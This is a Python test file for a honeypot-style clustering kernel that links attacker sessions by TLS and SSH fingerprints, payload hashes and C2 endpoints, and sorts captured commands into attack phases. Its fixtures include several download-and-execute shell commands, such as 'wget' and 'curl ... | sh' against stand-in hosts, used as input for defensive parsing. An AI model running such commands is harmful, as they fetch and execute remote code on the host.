"""The kernel against the plain reading of its rule: every pair weighed, every edge followed."""

from __future__ import annotations

import hashlib
import time
from collections import Counter
from itertools import combinations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet.cluster.graph import UnionFind, partition
from decnet.cluster.keys import endpoints_in, keys_of
from decnet.cluster.phases import PHASES, commands_by_phase, phase_of_tactic
from decnet.cluster.weights import (
    MOST,
    THRESHOLD,
    Traits,
    confidence,
    is_vetoed,
    jaccard,
    weigh,
)

KEYS = [f"{kind}:{n}" for kind in ("ja3", "hassh", "payload", "c2", "ja4") for n in range(3)]
TRAITS = st.builds(
    Traits,
    st.frozensets(st.sampled_from(KEYS), max_size=4),
    st.dictionaries(
        st.sampled_from(["discovery", "delivery"]),
        st.frozensets(st.sampled_from("abc"), min_size=1),
    ),
    st.frozensets(st.sampled_from("xyz")),
    st.sampled_from([None, 64496, 64497]),
)


def naive(traits: dict[str, Traits], common: set[str]) -> set[frozenset[str]]:
    """All n² pairs, then flood."""
    near: dict[str, set[str]] = {name: set() for name in traits}
    for one, other in combinations(traits, 2):
        if weigh(traits[one], traits[other], common) >= THRESHOLD:
            near[one].add(other)
            near[other].add(one)
    left, found = set(traits), set()
    while left:
        flood = {left.pop()}
        border = set(flood)
        while border:
            border = {n for b in border for n in near[b]} - flood
            flood |= border
        left -= flood
        found.add(frozenset(flood))
    return found


@given(st.lists(TRAITS, max_size=14), st.sets(st.sampled_from(KEYS), max_size=3))
def test_cluster_partition_is_that_of_all_pairs(people: list[Traits], common: set[str]) -> None:
    traits = {f"n{at:02}": person for at, person in enumerate(people)}
    found = partition({name: one.keys for name, one in traits.items()}, common)
    assert set(found) == naive(traits, common)
    assert sum(map(len, found)) == len(traits)


@given(st.lists(st.tuples(st.integers(0, 9), st.integers(0, 9)), max_size=20))
def test_cluster_union_find_names_a_set_by_its_smallest(pairs: list[tuple[int, int]]) -> None:
    sets = UnionFind()
    for one, other in pairs:
        sets.union(str(one), str(other))
    for root, labels in sets.groups().items():
        assert root == min(labels)
        assert {sets.find(label) for label in labels} == {root}


def test_cluster_all_weaker_evidence_together_stays_below_the_threshold() -> None:
    commands, secrets = {"discovery": {"id"}}, frozenset({"s"})
    alike = Traits(frozenset(), commands, secrets, 64496)
    assert weigh(alike, alike) == pytest.approx(0.85)
    assert weigh(alike, alike) < THRESHOLD
    assert weigh(Traits(frozenset({"ja3:1"})), Traits(frozenset({"ja3:1"}))) == THRESHOLD
    full = Traits(frozenset({"ja3:1"}), commands, secrets, 64496)
    assert weigh(full, full) == pytest.approx(MOST)
    assert confidence([full, full]) == 1.0
    assert confidence([full]) == 1.0
    assert confidence([full, Traits(frozenset({"ja3:1"}))]) == round(1 / MOST, 3)


def test_cluster_medium_is_the_best_phase_and_low_a_share() -> None:
    one = Traits(commands={"discovery": {"id", "w"}, "delivery": {"wget x"}})
    other = Traits(commands={"discovery": {"id"}, "impact": {"rm"}})
    assert weigh(one, other) == pytest.approx(0.6 * 0.5)
    assert weigh(Traits(secrets=frozenset("ab")), Traits(secrets=frozenset("bc"))) == pytest.approx(
        0.2 / 3
    )
    assert weigh(Traits(asn=64496), Traits(asn=64496)) == 0.05
    assert weigh(Traits(asn=None), Traits(asn=None)) == 0
    assert jaccard(set(), set()) == 0


def test_cluster_veto_only_where_all_that_is_comparable_disagrees() -> None:
    def of(*keys: str) -> Traits:
        return Traits(frozenset({"payload:p", *keys}))

    assert weigh(of(), of()) == 1
    assert weigh(of("ja3:1"), of()) == 1
    assert weigh(of("ja3:1"), of("hassh:1")) == 1, "nothing to compare"
    assert weigh(of("ja3:1"), of("ja3:2")) == 0
    assert weigh(of("ja3:1", "ja4:9"), of("ja3:2", "ja4:9")) == 1, "one agrees"
    assert is_vetoed(of("ja3:1", "ja4:8"), of("ja3:2", "ja4:9"))
    assert weigh(of("ja4:9"), Traits(frozenset({"ja4:9"}))) == 0, "JA4 alone links nobody"


def test_cluster_kernel_costs_four_times_for_four_times_as_many() -> None:
    def crowd(count: int) -> dict[str, frozenset[str]]:
        # One payload in all hands is the worst case of every pairwise reading.
        return {
            f"n{n}": frozenset({f"ja3:{n % (count // 5)}", "payload:p", f"c2:{n % 7}"})
            for n in range(count)
        }

    def best(count: int) -> float:
        people, times = crowd(count), []
        for _ in range(3):
            started = time.process_time()
            partition(people)
            times.append(time.process_time() - started)
        return min(times)

    small, large = best(5_000), best(20_000)
    assert large < 10 * small, f"{small:.3f} s for 5,000, {large:.3f} s for 20,000: 16x is n²"


def test_cluster_keys_of_events() -> None:
    md5, sha = "0" * 31 + "a", "ab" * 32
    assert keys_of("sniffer", "tls_client_hello", {"ja3": md5.upper()}) == {f"ja3:{md5}"}
    assert keys_of("ssh", "x", {"hassh": md5, "ja4": "t13d1516h2_8daaf6152771_b186095e22b6"}) == {
        f"hassh:{md5}",
        "ja4:t13d1516h2_8daaf6152771_b186095e22b6",
    }
    # 771,4865,0-23,29,0 by md5sum
    raw = keys_of("sniffer", "x", {"ja3": "771,4865,0-23,29,0"})
    assert raw == {"ja3:" + hashlib.md5(b"771,4865,0-23,29,0").hexdigest()}
    assert keys_of("ssh", "file_captured", {"sha256": sha}) == {f"payload:{sha}"}
    assert keys_of("ssh", "command", {"command": "cd /tmp; wget http://192.0.2.9/x.sh"}) == {
        "c2:192.0.2.9:80"
    }
    for empty in ({"sha256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},):
        assert keys_of("ssh", "file_captured", empty) == set(), "the empty file"
    assert keys_of("prober", "hassh_fingerprint", {"hassh": md5}) == set(), "their server's"


def test_cluster_endpoints() -> None:
    text = "curl -O https://Evil.Example:8443/a|sh; tftp://[2001:db8::1]/b ftp://u:p@192.0.2.1/c"
    assert endpoints_in(text) == {"evil.example:8443", "[2001:db8::1]:69", "192.0.2.1:21"}
    for nothing in ("http://127.0.0.1/x", "http://localhost/x", "http://a.b:99999/", "http://", ""):
        assert endpoints_in(nothing) == set()


@given(
    st.text(max_size=20),
    st.text(max_size=20),
    st.dictionaries(
        st.sampled_from(["ja3", "hassh", "ja4", "sha256", "command", "url", "cmd"]),
        st.one_of(st.text(), st.integers(), st.just("http://" + "[" * 50), st.none()),
    ),
)
def test_cluster_keys_of_anything_are_short_and_clean(
    service: str, kind: str, fields: dict[str, object]
) -> None:
    for key in keys_of(service, kind, fields):
        assert len(key) <= 300
        assert key.isascii()
        assert key.isprintable()


def test_cluster_phases() -> None:
    assert len(PHASES) == len(set(PHASES)) == 19
    for text in ("TA0007", "Discovery", "discovery"):
        assert phase_of_tactic(text) == "discovery"
    assert phase_of_tactic("command-and-control") == "command_and_control"
    assert phase_of_tactic("initial-access") == "delivery"
    assert phase_of_tactic("no such") == "unknown"
    found = commands_by_phase(["uname -a; /usr/bin/wget http://x/y && ./y", "id"])
    assert found == {
        "discovery": {"uname -a", "id"},
        "delivery": {"/usr/bin/wget http://x/y"},
        "execution": {"./y"},
    }
    assert Counter(commands_by_phase(["zzz"])) == {"unknown": {"zzz"}}
